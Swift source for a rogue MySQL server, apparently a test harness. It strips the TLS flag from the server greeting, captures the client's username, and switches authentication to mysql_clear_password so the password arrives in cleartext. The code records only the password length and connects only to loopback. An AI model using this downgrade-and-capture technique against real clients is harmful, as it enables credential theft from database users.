/// A server that uses MySQL's protocol without TLS up to the client's cleartext password.
///
/// Source: MySQL internals, "Connection Phase": HandshakeV10, HandshakeResponse41, AuthSwitchRequest.
enum RogueMySQL {
    /// - Parameter greetingOf: A server whose greeting is forwarded without its TLS flag; nil for a greeting of its
    ///   own.
    static func talk(_ client: Socket, greetingOf server: Int?) -> CapturedBytes {
        var captured = CapturedBytes()
        let greeting = server.flatMap(strippedGreeting) ?? ownGreeting
        client.write(packet(greeting, sequence: 0))
        guard let response = packet(client), response.payload.count > 32 else { return captured }
        let user = response.payload[32...].prefix { $0 != 0 }
        captured.user = String(decoding: user, as: UTF8.self)
        client.write(packet([0xFE] + Array("mysql_clear_password\0".utf8), sequence: response.sequence &+ 1))
        guard let password = packet(client) else { return captured }
        captured.passwordByteCount = password.payload.count - (password.payload.last == 0 ? 1 : 0)
        client.write(
            packet([0xFF, 0x15, 0x04] + Array("#28000Access denied".utf8), sequence: password.sequence &+ 1))
        return captured
    }

    private static let ownGreeting: [UInt8] =
        [10] + Array("8.0.28\0".utf8) + [1, 0, 0, 0] + Array("abcdefgh\0".utf8)
        // Capabilities: 4.1 protocol, secure connection, plugin authentication; no TLS.
        + [0x0D, 0xA2, 45, 2, 0, 0x08, 0x00, 21] + [UInt8](repeating: 0, count: 10) + Array("ijklmnopqrst\0".utf8)
        + Array("mysql_native_password\0".utf8)

    /// A server's greeting with the TLS bit cleared: bit 11 of the capabilities, after the version, the connection id,
    /// 8 bytes of salt and a filler.
    private static func strippedGreeting(_ server: Int) -> [UInt8]? {
        guard let connection = Socket.connect(toLoopback: server, timeout: 5),
            var greeting = packet(connection)?.payload,
            let end = greeting.firstIndex(of: 0), end + 15 < greeting.count
        else { return nil }
        greeting[end + 1 + 4 + 8 + 1 + 1] &= ~0x08
        return greeting
    }

    private static func packet(_ socket: Socket) -> (payload: [UInt8], sequence: UInt8)? {
        guard let head = socket.read(exactly: 4) else { return nil }
        let length = Int(head[0]) | Int(head[1]) << 8 | Int(head[2]) << 16
        return length > 1 << 20 ? nil : socket.read(exactly: length).map { ($0, head[3]) }
    }

    private static func packet(_ payload: [UInt8], sequence: UInt8) -> [UInt8] {
        [UInt8(payload.count & 255), UInt8(payload.count >> 8 & 255), UInt8(payload.count >> 16), sequence] + payload
    }
}
